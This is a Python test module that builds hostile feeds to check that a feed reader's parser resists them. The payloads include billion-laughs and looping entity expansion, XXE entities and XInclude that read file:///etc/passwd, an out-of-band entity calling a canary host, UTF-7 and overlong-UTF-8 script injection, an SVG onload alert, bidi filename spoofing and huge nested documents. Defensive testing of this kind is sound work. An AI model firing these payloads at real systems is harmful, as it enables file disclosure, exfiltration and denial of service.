"""Hostile documents: entities, characters, sizes, and what is no feed or only the beginning of one."""

from collections.abc import Callable, Iterator
from html import escape
from typing import Any

from tests.hostile.rows import CANARY, PASSWD, READING, Row, failed, fetched, json_feed, story
from tests.newsroom import rss
from tests.servers import Answer, Request


def _declared(doctype: str, path: str, title: str = "&x;") -> bytes:
    """A document with a doctype, and an item that uses what it declares."""
    document = rss(story(path, title=f"Before {title} after"))
    return document.replace(b"?>", f"?>{doctype}".encode(), 1)


def _laughs() -> str:
    lines = [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10)]
    return f'<!DOCTYPE rss [<!ENTITY l0 "lol">{"".join(lines)}<!ENTITY x "&l9;">]>'


def entities(canary: str, forbidden: str) -> Iterator[Row]:
    """Entities that grow, and that ask for a file or a host."""
    hides = (PASSWD, CANARY)
    yield fetched("/entity/laughs", _declared(_laughs(), "/entity/laughs"))
    quadratic = f'<!DOCTYPE rss [<!ENTITY x "{"x" * 50_000}">]>'
    yield fetched("/entity/quadratic", _declared(quadratic, "/entity/quadratic", "&x;" * 5000))
    loop = '<!DOCTYPE rss [<!ENTITY x "&y;"><!ENTITY y "&x;">]>'
    yield fetched("/entity/loop", _declared(loop, "/entity/loop"), shows=("Before",))
    outside = {
        "file": '[<!ENTITY x SYSTEM "file:///etc/passwd">]',
        "host": f'[<!ENTITY x SYSTEM "{canary}/x">]',
        "neighbour": f'[<!ENTITY x PUBLIC "a" "{forbidden}/x">]',
        "dtd": f'SYSTEM "{canary}/rss.dtd"',
        "public": f'PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{forbidden}/rss-0.91.dtd"',
        "parameter": f'[<!ENTITY % p SYSTEM "{canary}/p.dtd">%p;]',
        "out-of-band": f'[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "{canary}/p.dtd">%p;]',
    }
    for name, inner in outside.items():
        path = f"/entity/{name}"
        yield fetched(path, _declared(f"<!DOCTYPE rss {inner}>", path), shows=("Before", "after"), hides=hides)
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield fetched("/entity/xinclude", rss(story("/entity/xinclude") + include), hides=hides)
    sheet = f'?><?xml-stylesheet type="text/xsl" href="{canary}/x.xsl"?>'.encode()
    yield fetched("/entity/stylesheet", rss(story("/entity/stylesheet")).replace(b"?>", sheet, 1))


def characters() -> Iterator[Row]:
    """Labels that lie, encodings that hide, bytes that are none."""
    words = "Größe — naïve “quotes” Ж"

    def typed(body: bytes, kind: str) -> Answer:
        return Answer(body=body, headers={"Content-Type": kind})

    def document(path: str, label: str) -> str:
        return rss(story(path, title=words)).decode().replace("UTF-8", label, 1)

    for name, label, codec, kind in (
        ("wrong", "nonsense-8", "utf-8", "text/xml; charset=nonsense"),
        ("lying", "UTF-16", "utf-8", "text/xml; charset=utf-16"),
        ("latin", "iso-8859-1", "utf-8", "text/xml; charset=iso-8859-1"),
        ("utf-16", "UTF-16", "utf-16-le", "text/xml"),  # without a mark
        ("utf-16-be", "UTF-8", "utf-16-be", "text/xml; charset=utf-8"),
        ("utf-32", "UTF-8", "utf-32", "text/xml"),
        ("marks", "UTF-8", "utf-8-sig", "text/xml; charset=utf-16le"),
        ("idna", "idna", "utf-8", "text/xml; charset=idna"),
        ("unicode-escape", "unicode_escape", "utf-8", "text/xml; charset=unicode_escape"),
        ("zlib", "zlib_codec", "utf-8", "text/xml; charset=zlib_codec"),
        ("rot13", "rot13", "utf-8", "text/xml; charset=rot13"),
    ):
        path = f"/charset/{name}"
        yield fetched(path, typed(document(path, label).encode(codec), kind), shows=(words,), hides=("�",))
    cyrillic = document("/charset/1252", "UTF-8").replace("Ж", "").encode("cp1252")
    yield fetched(
        "/charset/1252", typed(cyrillic, "text/xml; charset=utf-8"), shows=("Größe — naïve “quotes”",), hides=("�",)
    )
    seven = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    for label in ("utf-7", "UTF-8"):
        path = f"/charset/7-{label.lower()}"
        body = rss(story(path, title=seven, description=seven)).replace(b"UTF-8", label.encode(), 1)
        yield fetched(path, typed(body, f"text/xml; charset={label}"), shows=("+ADw-script+AD4-",), hides=("<script",))
    nul = rss(story("/charset/nul", title="N\0U\0L")).replace(b"description>", b"desc\0ription>")
    yield fetched("/charset/nul", nul, shows=("NUL",), hides=("\0",))
    forbidden = "&#0;&#1;&#8;&#x1b;[31m&#xFFFE;&#xD800;&#xDFFF;&#x110000;&#99999999999;"
    path = "/charset/references"
    yield fetched(
        path, rss(story(path, title=f"a{forbidden}b", description=f"c{forbidden}d")), hides=("\0", "\x1b", "�\x08")
    )
    overlong = rss(story("/charset/overlong", title="|")).replace(b"|", b"over \xc0\xbcscript\xc0\xbe long")
    yield fetched("/charset/overlong", overlong, shows=("over", "long"), hides=("<script",))
    yield fetched(
        "/charset/bytes", rss(story("/charset/bytes", title="|")).replace(b"|", bytes(range(0x80, 0x100)) * 20)
    )
    bidi = "safe\u202egnp.exe\u2066\u2069\ufeff\u200b\U000e0041"
    yield fetched(
        "/charset/bidi", rss(story("/charset/bidi", title=bidi, description=bidi)), hides=("\u202e", "\u2066", "\ufeff")
    )


def _long_title(megabytes: int) -> Callable[[Request], Answer]:
    before, after = rss(story("/size/title", title="|")).split(b"|")

    def answer(_request: Request) -> Answer:
        return Answer(chunks=(before, *(b"x" * 1_000_000 for _ in range(megabytes)), after))

    return answer


def sizes() -> Iterator[Row]:
    """Documents within the bounds of a body that are huge in one direction."""
    yield failed("/size/title", "larger than 10,000,000 bytes", _long_title(50))
    long = "x" * 1_000_000
    yield fetched("/size/title-1", rss(story("/size/title-1", title=long)))
    yield fetched("/size/words", rss(story("/size/words", title="word " * 50_000, description="word " * 250_000)))
    yield fetched("/size/guid", rss(story("/size/guid", guid="g" * 1_000_000)))
    yield fetched("/size/link", rss(story("/size/link", link="https://hostile.example/" + "l" * 1_000_000)))
    yield fetched("/size/comment", rss(story("/size/comment"), head=f"<!--{long}-->"))
    yield fetched("/size/instruction", rss(story("/size/instruction"), head=f"<?x {long}?>"))
    yield fetched("/size/element", rss(story("/size/element") + f"<{long}/>"))
    path = "/size/enclosures"
    several = "".join(
        f'<enclosure url="https://hostile.example/{n}.mp3" length="{10**n % 10**40}"/>' for n in range(2000)
    )
    yield fetched(path, rss(story(path) + several))
    for name, html in (
        ("divs", "<div>" * 100_000 + "deep"),
        ("tables", "<table><tr><td>" * 20_000 + "deep"),
        ("quotes", "<blockquote><ul><li>" * 5000 + "deep"),
        ("bold", "<b><i>" * 50_000 + "deep"),
        ("open", "<" * 200_000 + "deep"),
        ("links", '<a href="https://hostile.example/">a</a>' * 20_000 + "deep"),
        ("entities", "&amp;" * 100_000 + "deep"),
        ("stars", "*_`[" * 100_000 + "deep"),
        ("attributes", f"<p {' '.join(f'a{n}=1' for n in range(10_000))}>deep"),
        ("math", "<math>" + "<mrow><msup>" * 20_000 + "<mi>deep"),
        ("ruby", "<ruby>a<rt>" * 20_000 + "deep"),
        ("noscript", "<noscript><object>" * 20_000 + "deep"),
        ("frames", '<iframe src="https://hostile.example/" title="a"></iframe>' * 5000 + "deep"),
        ("srcset", f'<img src="/a.png" srcset="{"https://hostile.example/a.png 1w, " * 20_000}">deep'),
    ):
        path = f"/size/html-{name}"
        yield fetched(path, rss(story(path, description=escape(html))))
    opened = b'{"version":"https://jsonfeed.org/version/1.1","items":[],"x":'
    nested = "JSON that is nested too deeply"
    yield failed("/json/deep", nested, opened + b"[" * 100_000)
    yield failed("/json/deep-whole", nested, opened + b"[" * 100_000 + b"]" * 100_000 + b"}")
    yield fetched("/json/number", opened + b"9" * 100_000 + b"}", entries=0)


def killed() -> Iterator[Row]:
    """Documents that keep a parser busy for long; the last one for longer than anybody waits."""
    head, tail = rss().split(b"</channel>")
    entries = b"<item><title>1</title></item>" * 200_000
    yield fetched("/killed/entries", head + entries + b"</channel>" + tail, entries=10_000)
    yield failed("/killed/nesting", "truncated", head + b"<item>" + b"<a>" * 100_000)
    attributes = " ".join(f'a{n}="1"' for n in range(200_000))
    yield fetched("/killed/attributes", rss(f"<title {attributes}>Many attributes</title>"), shows=("Many attributes",))
    categories = "".join(f"<category>c{n}</category>" for n in range(100_000))
    yield fetched("/killed/categories", rss(story("/killed/categories") + categories))
    for name, author in (("author", "a" * 60_000), ("author-mail", "a@" * 30_000), ("author-open", "(" * 60_000)):
        path = f"/killed/{name}"
        yield fetched(path, rss(story(path) + f"<author>{author}</author>"))
    html = f"<p {' '.join(f'a{n}=1' for n in range(300_000))}>deep"
    yield failed(
        "/killed/for-sure", f"took longer than {READING} s", rss(story("/killed/for-sure", description=escape(html)))
    )


def not_feeds() -> Iterator[Row]:
    """Documents that are no feed, or only the beginning of one."""
    yield failed("/no/html", "a web page", b"<!doctype html><html><head><title>Hi</title></head><body>Hi</body></html>")
    yield failed(
        "/no/challenge",
        "bot check",
        b"<html><script src=/cdn-cgi/challenge-platform/x></script>Just a moment...</html>",
    )
    yield failed("/no/json", "JSON, but not a JSON Feed", b'{"hello": "world"}')
    yield failed("/no/json-list", "JSON, but not a JSON Feed", b"[1, 2, 3]")
    yield failed("/no/binary", "of another kind", bytes(range(256)) * 4000)
    yield failed("/no/png", "of another kind", b"\x89PNG\r\n\x1a\n" + bytes(1000))
    yield failed("/no/zip", "of another kind", b"PK\x03\x04" + bytes(1000))
    yield failed("/no/text", "of another kind", b"Hello, world\n")
    yield failed("/no/path", "of another kind", b"/etc/passwd")
    yield failed("/no/url", "of another kind", b"http://127.0.0.2/")
    yield failed("/no/opml", "XML of another kind", b"<opml version='2.0'><body/></opml>")
    yield failed("/no/svg", "XML of another kind", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    yield failed("/no/root", "XML of another kind", b"<" + b"a" * 1_000_000 + b">")
    yield failed("/no/open", "of another kind", b"<" * 1_000_000)
    yield failed("/no/comments", "of another kind", b"<!--" * 200_000)
    yield failed("/no/doctypes", "of another kind", b"<!DOCTYPE " * 100_000)
    yield fetched("/json/types", json_feed({}, title=[], home_page_url=5), 0)
    odd: list[Any] = [
        None,
        1,
        [],
        "x",
        {},
        {"id": []},
        {"id": 1, "content_text": "A numbered one"},
        {"id": {}, "title": {}, "content_html": [1]},
    ]
    yield fetched("/json/items", json_feed(odd), shows=("A numbered one",))
    lone = json_feed([{"id": "\ud800", "title": "lone \udfff surrogate", "content_text": "a\ud800b"}])
    yield fetched("/json/surrogates", lone, shows=("lone",), hides=("\ufffd\ufffd",))
    nan = json_feed([{"id": "nan", "title": "Not a number", "content_text": "x", "x": float("nan"), "y": float("inf")}])
    yield fetched("/json/nan", nan, shows=("Not a number",))


def cuts() -> Iterator[Row]:
    """One document, cut off at every tag."""
    uncut = rss(story("/cut/whole", 0), story("/cut/whole", 1)).replace(b"tories/", b"tories/%d/")
    places = [place for place in range(len(uncut)) if uncut[place : place + 1] == b"<"]
    for count, place in enumerate(places[:-1]):
        cut = uncut[:place].replace(b"%d", str(count).encode())
        says = "truncated in line" if count > 2 else "empty|no feed|not a feed"
        yield failed(f"/cut/{count}", says, cut, entries=cut.count(b"</item>"))
    yield fetched("/cut/end", uncut[: places[-1]].replace(b"%d", b"end"), 2)  # only </rss> is missing
